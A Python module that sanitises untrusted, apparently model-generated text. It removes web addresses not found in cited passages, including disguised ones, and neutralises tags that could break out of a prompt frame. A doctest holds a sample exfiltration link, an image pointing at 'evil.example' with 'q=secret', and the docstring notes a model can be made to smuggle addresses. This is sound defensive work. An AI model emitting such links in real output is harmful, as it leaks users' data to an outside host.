"""Untrusted text: addresses that nobody read are removed, names are compared as they are seen, frames stay closed."""

import html
import re
import unicodedata
from bisect import bisect_left
from collections.abc import Callable, Iterable
from functools import cache, cached_property
from urllib.parse import unquote

import regex

from foundation.text.prose import outside_code

REMOVED = "[address removed]"
_INVISIBLE = regex.compile(r"\p{Default_Ignorable_Code_Point}|\p{Cf}|(?!\s)\p{Cc}")
_TAG = re.compile("[<\uff1c\ufe64][^<\uff1c\ufe64]*")
# Endings of files that no country has; top-level domains in letters of their own, of which a sentence would have too many
_FILES = "cfg|conf|cpp|css|csv|docx?|env|gif|go|html?|ini|ipynb|java|jpe?g|jsonl?|jsx?|lock|log|pdf|png|pptx?|sql|svg|toml|tsx?|txt|xlsx?|xml|ya?ml"
_OWN_LETTERS = "рф|рус|укр|бел|срб|мкд|бг|ею|қаз|онлайн|сайт|ελ|ευ|中国|中國|香港|台湾|台灣|新加坡|한국|भारत|ไทย|موقع|امارات|السعودية|مصر"  # noqa: RUF001
_TOP = rf"(?:(?!(?:{_FILES})(?![\w-]))[a-z]{{2,24}}|xn--[a-z0-9-]{{1,59}}|{_OWN_LETTERS})"
_HOST = rf"(?:[^\W_](?:[^\W_]|-){{0,62}}\.){{1,8}}{_TOP}"
_NUMBERS = r"(?:(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}|\[[0-9a-f]*:[0-9a-f:.]{1,40}\])"
# The beginning of an address in a normalised word (`comparable`)
_ADDRESS = re.compile(
    r"[a-z][a-z0-9+.-]{0,20}://"  # of any scheme
    r"|(?<![a-z0-9])(?:https?|wss?|ftps?|file):(?=[^\s,;.])"  # with any number of slashes, which browsers forgive
    r"|(?<![a-z0-9])(?:javascript|vbscript|blob|mailto|tel|sms):(?=\S)|(?<![a-z0-9])data:[\w/+.-]*[,;]"
    r"|(?<![\w:/])/{2,}(?=[\w-]+\.|localhost|\[)|(?<=\()/{2,}(?=\w)"  # of the scheme of the page that shows it
    r"|(?<=\]\()<?[a-z][a-z0-9+.-]{1,20}:(?=[^\s:])"  # of any scheme, as the target of a link in Markdown; calls[i](std::x) is C++
    r"|(?<![\w.])www\."
    rf"|(?<![\w.@-])(?:[\w.+-]{{1,64}}@)?{_HOST}(?=(?::\d{{1,5}})?[/?#]{{1,3}}\w)|(?<![\w.+-])[\w.+-]{{1,64}}@{_HOST}"
    rf"|{_NUMBERS}(?=(?::\d{{1,5}})?[/?#][^\sa-z]{{0,99}}[a-z])"  # 10.0.0.0/8 is a network
)
# Separators of words in text that may be JSON or HTML
_BETWEEN = re.compile(r"[\s\"<>]+")
# A word, and the space of another script behind it, at which Markdown ends no address: what follows would belong to it
_WORD = re.compile(r"(\S+)([^\S \t-\r]?)")
# A character that every address has; a fast filter for long texts
_PART_OF_ADDRESS = re.compile(r"[./:@\\%&\u3002]|[^\x00-\x7f]")
_AFTER = ".,;:!?)]}>\"'`“”’|*_…。，、；：！？）］｝」』》"  # noqa: RUF001
# What stands behind an address that was read: a slash and a few signs. The rest is parted from it
_END = re.compile(r"(/?[^/]{0,4})(.*)")


def visible(text: str) -> str:
    """Return the text as its reader sees it: letters of any width as the usual ones, and no invisible ones."""
    return str(_INVISIBLE.sub("", unicodedata.normalize("NFKC", text)))


def fold(text: str) -> str:
    r"""Return a name as names are compared: by what is seen of it, without its case.
    >>> fold("\uff22OTH") == fold("bo\u200bth"), fold("Straße") == fold("STRASSE")
    (True, True)
    """
    return visible(visible(text).casefold())


def without_tags(text: str, name: str) -> str:
    """Return the text with no tag of this name, by which it could end its frame or begin another: `</Passage >` to `(/Passage >`."""
    tag = re.compile(rf"<[\s/]*{name}\b", re.IGNORECASE)
    return _TAG.sub(lambda found: f"({found[0][1:]}" if tag.match(visible(found[0])) else found[0], text)


def without_foreign_urls(text: str, quotes: Iterable[str]) -> str:
    """Remove addresses that no cited passage contains; a model can be made to invent or smuggle one.

    From the beginning of an address the rest of the word is removed. A word with an address in disguise (entities,
    backslashes, look-alike letters) is removed whole. Code stays as it is: no client makes a link or a picture of it.

    >>> without_foreign_urls("![](//evil.example/?q=secret) and ftp://evil.example/x, 3//4", [])
    '![]([address removed]) and [address removed], 3//4'
    """
    known = cache(lambda: addresses_in(quotes))
    return outside_code(text, lambda prose: without_addresses(prose, known))


class Addresses(dict[str, str]):
    """Addresses as they stand in texts, each by itself and by its normalised form."""

    @cached_property
    def _in_order(self) -> list[str]:
        return sorted(self)

    def beginning(self, address: str) -> str:
        """Return the beginning, as it stands there, of an address that begins with `address`; empty if none does."""
        for start in (f"{address}{sign}" for sign in "/?#"):
            place = bisect_left(self._in_order, start)
            if place < len(self) and self._in_order[place].startswith(start):
                return self[self._in_order[place]][: len(address)]
        return ""


def addresses_in(texts: Iterable[str]) -> Addresses:
    words = {word for text in texts for word in _BETWEEN.split(text) if _PART_OF_ADDRESS.search(word)}
    addresses = [(address, written) for _, written, address in map(_address_in, sorted(words)) if address]
    return Addresses(dict(addresses) | {written: written for _, written in addresses})


def without_addresses(text: str, known: Callable[[], Addresses]) -> str:
    """Remove addresses as `without_foreign_urls` does, except those in `known`, which is called where there are any."""
    # word by word: the pattern would go through a long text for 20 ms
    return _WORD.sub(lambda word: _without_foreign(word[1], word[2], known), text)


def _without_foreign(word: str, space: str, known: Callable[[], Addresses]) -> str:
    start, written, address = _address_in(word) if _PART_OF_ADDRESS.search(word) else (None, "", "")
    if not address:
        return word + space
    space = space and " "
    if start is None and written not in known():
        word = _INVISIBLE.sub("", word)
        start, written, address = _address_in(word)
    head, _, tail = word.rpartition(written)
    begins = "" if start is None else known().get(address) or known().beginning(address)
    if _address_in(read := known().get(written) or begins)[2] == address:
        # as it was read, with the signs of a sentence: in other letters, codes or signs it could carry more
        end, more = _END.match(tail).groups()  # type: ignore[union-attr]  # it matches nothing, too
        return f"{head}{read}{end}{more and ' '}{more}{space}"
    return (REMOVED if start is None else f"{head}{REMOVED}{tail.lstrip('/')}") + space


def _address_in(word: str) -> tuple[int | None, str, str]:
    """Return where the first address begins (`None`: in disguise), it as written (the word), and normalised, empty if there is none."""
    shown = comparable(word)
    if not (match := _ADDRESS.search(shown)):
        return None, "", ""
    address = shown[match.start() :].rstrip(_AFTER + "/")
    begins = _ADDRESS.search(word.lower())
    written = word[begins.start() :].rstrip(_AFTER + "/") if begins else ""
    if begins and comparable(written).rstrip(_AFTER + "/") == address:
        return begins.start(), written, address
    return None, word.strip(_AFTER), address


def comparable(text: str) -> str:
    """Return a word as browsers read it: entities and percents decoded, width and case folded, without invisible characters."""
    if text.isascii() and text.isprintable() and not {*text} & {"&", "%", "\\"}:  # nothing to decode, as in most words
        return text.lower()
    shown = text
    for _ in range(3):  # entities of entities
        shown = unquote(html.unescape(shown))
    return re.sub(r"[\t\n\r]", "", visible(shown)).replace("\\", "/").replace("。", ".").lower()
